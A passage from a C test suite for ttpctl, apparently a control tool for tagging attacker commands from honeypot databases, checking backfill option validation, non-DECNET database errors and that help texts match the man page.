	ck_assert_int_eq(CTL(&e, "backfill", "--since-days", "0"), 2);
	ck_assert_int_eq(CTL(&e, "backfill", "--since-days", "3651"), 2);
	ck_assert_int_eq(CTL(&e, "backfill", "--since-days", "x"), 2);
	ck_assert_int_eq(CTL(&e, "backfill", "--batch-size", "0"), 2);
	ck_assert_int_eq(CTL(&e, "backfill", "--source", "mail"), 2);
	ck_assert_str_eq(e.err, "ttpctl: backfill: --source 'mail': expected "
	    "command, canary or all\n");
	env_free(&e);
}
END_TEST

START_TEST(test_backfill_not_decnet)
{
	struct env e;

	env_init(&e);
	/* a ttpd database: no DECNET tables */
	populate(&e);
	ck_assert_int_eq(CTL(&e, "backfill", "--source", "command"), 1);
	ck_assert_msg(strstr(e.err, ": no attackers table: not a DECNET "
	    "database?") != NULL, "%s", e.err);
	ck_assert_msg(CTL(&e, "backfill") == 0, "%s", e.err);
	ck_assert_msg(matches("\nsource=command rows=0 commands=0 tags=0 "
	    "inserted=0 ", e.out), "%s", e.out);
	env_free(&e);
}
END_TEST

/* --------------------------------------------------------------- help */

/*
 * Every command and every long option the --help texts mention is in
 * ttpctl(8) (as "Cm name" / "Fl \\-name"), so the page cannot fall behind.
 */
static void
help_in_man(struct env *e)
{
	static const char *const cmds[] = { "rules", "rule", "tags",
	    "navigator", "backfill" };
	char page[1024], *man, opt[128], esc[256], *all = strdup("");
	const char *p;
	size_t i, k, n;

	snprintf(page, sizeof page, "%s/man/ttpctl.8", tu_env("TTPD_SRCDIR"));
	man = tu_read_file(page, NULL);
	ck_assert_ptr_nonnull(man);
	for (i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		snprintf(esc, sizeof esc, ".Cm %s", cmds[i]);
		ck_assert_msg(strstr(man, esc) != NULL, "ttpctl.8 lacks %s",
		    esc);
		ck_assert_int_eq(CTL(e, cmds[i], "--help"), 0);
		all = realloc(all, strlen(all) + strlen(e->out) + 1);
		strcat(all, e->out);
	}
	ck_assert_int_eq(CTL(e, "--help"), 0);
	all = realloc(all, strlen(all) + strlen(e->out) + 1);
	strcat(all, e->out);
	for (p = all, n = 0; (p = strstr(p, "--")) != NULL; p += 2) {
		for (k = 0; k < sizeof opt - 1 && (p[2 + k] == '-' ||
		    (p[2 + k] >= 'a' && p[2 + k] <= 'z')); k++)
			opt[k] = p[2 + k];
		opt[k] = '\0';
		if (k == 0)
			continue;
		/* "Fl \\-since\\-days" */
		strcpy(esc, "Fl \\-");
		for (k = 0, i = strlen(esc); opt[k] != '\0'; k++) {
			if (opt[k] == '-')
				esc[i++] = '\\';
			esc[i++] = opt[k];
		}
		esc[i] = '\0';
		ck_assert_msg(strstr(man, esc) != NULL, "ttpctl.8 lacks --%s "
		    "(%s)", opt, esc);
		n++;
	}
	ck_assert_uint_ge(n, 10);
	free(all);
	free(man);
}

START_TEST(test_help)
{
	static const char *const cmds[][3] = {
		{ "rules", "--help", "usage: ttpctl rules\n" },
		{ "rule", "--help", "usage: ttpctl rule show ID\n" },
		{ "tags", "--help", "usage: ttpctl tags " },
		{ "navigator", "--help", "usage: ttpctl navigator " },
		{ "backfill", "--help", "usage: ttpctl backfill " },
	};
	struct env e;
	size_t i;

	env_init(&e);
	for (i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		ck_assert_int_eq(CTL(&e, cmds[i][0], cmds[i][1]), 0);
		ck_assert_msg(strncmp(e.out, cmds[i][2], strlen(cmds[i][2])) ==
		    0, "%s: %s", cmds[i][0], e.out);
	}
	ck_assert_int_eq(CTL(&e, "rule", "clip", "X", "--help"), 0);
	help_in_man(&e);
	ck_assert_int_eq(CTL(&e, "--help"), 0);
	ck_assert_msg(strstr(e.out, "Exit status: 0 success, 1 error") != NULL,
	    "%s", e.out);
	/* no command */
	{
		const char *args[] = { NULL };

		free(e.out);
		free(e.err);
		ck_assert_int_eq(tu_run("host/ttpctl", args, &e.out, &e.err), 2);
		ck_assert_msg(strstr(e.err, "missing command") != NULL, "%s",
		    e.err);
	}
	env_free(&e);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("ttpctl");
	TCase *tc = tcase_create("ttpctl");
	SRunner *sr;
	int failed;

	tcase_add_test(tc, test_rules_list);
	tcase_add_test(tc, test_rule_state_round_trip);
	tcase_add_test(tc, test_state_honoured_by_replay);
	tcase_add_test(tc, test_rule_errors);
	tcase_add_test(tc, test_database_locked);
	tcase_add_test(tc, test_tags);
	tcase_add_test(tc, test_identity_rollup);
	tcase_add_test(tc, test_navigator);
	tcase_add_test(tc, test_backfill);
	tcase_add_test(tc, test_backfill_not_decnet);
	tcase_add_test(tc, test_help);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
